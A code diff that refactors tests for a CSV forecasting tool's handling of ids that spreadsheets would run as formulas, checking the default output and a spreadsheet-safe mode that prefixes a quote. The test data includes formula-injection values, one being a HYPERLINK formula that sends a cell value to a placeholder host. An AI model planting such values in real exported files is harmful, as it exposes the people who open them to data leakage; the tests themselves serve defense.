@@ -13,31 +13,35 @@ const TEXT = [
   '',
 ].join('\n');
 
-/** The output's ids, as a CSV reader reads them. */
-async function outputIds(output: string): Promise<string[]> {
+/**
+ * The command on TEXT: the output's ids, as a CSV reader reads them, the
+ * warnings, and the input's path.
+ */
+async function forecastText(workers: number, spreadsheetSafe?: boolean) {
+  const { input, output } = await files(TEXT);
+  const warnings: string[] = [];
+  await streamForecast({
+    ...OPTIONS,
+    input,
+    output,
+    workers,
+    ...(spreadsheetSafe === undefined ? {} : { spreadsheetSafe }),
+    warn: (w) => warnings.push(w),
+  });
   const records: string[][] = parse(await readFile(output, 'utf8'));
-  return [...new Set(records.slice(1).map((r) => r[0]!))];
+  const ids = [...new Set(records.slice(1).map((r) => r[0]!))];
+  return { ids, warnings, input };
 }
 
 describe('streamForecast and ids a spreadsheet runs as formulas', () => {
   it.each([1, 2])(
     'writes them as read, and says so, naming the option (%i worker(s))',
     async (workers) => {
-      // Prepare
-      const { input, output } = await files(TEXT);
-      const warnings: string[] = [];
-
       // Act
-      await streamForecast({
-        ...OPTIONS,
-        input,
-        output,
-        workers,
-        warn: (w) => warnings.push(w),
-      });
+      const { ids, warnings, input } = await forecastText(workers);
 
       // Assess: the ids join with the input's; it said nothing before
-      expect(await outputIds(output)).toEqual([
+      expect(ids).toEqual([
         'a1',
         '=HYPERLINK("http://x/?"&A1,"a")',
         '@SUM(1+1)',
@@ -52,22 +56,11 @@ describe('streamForecast and ids a spreadsheet runs as formulas', () => {
   );
 
   it("writes them with a leading ' under --spreadsheet-safe (OWASP)", async () => {
-    // Prepare
-    const { input, output } = await files(TEXT);
-    const warnings: string[] = [];
-
     // Act
-    await streamForecast({
-      ...OPTIONS,
-      input,
-      output,
-      workers: 1,
-      spreadsheetSafe: true,
-      warn: (w) => warnings.push(w),
-    });
+    const { ids, warnings } = await forecastText(1, true);
 
     // Assess
-    expect(await outputIds(output)).toEqual([
+    expect(ids).toEqual([
       'a1',
       `'=HYPERLINK("http://x/?"&A1,"a")`,
       "'@SUM(1+1)",
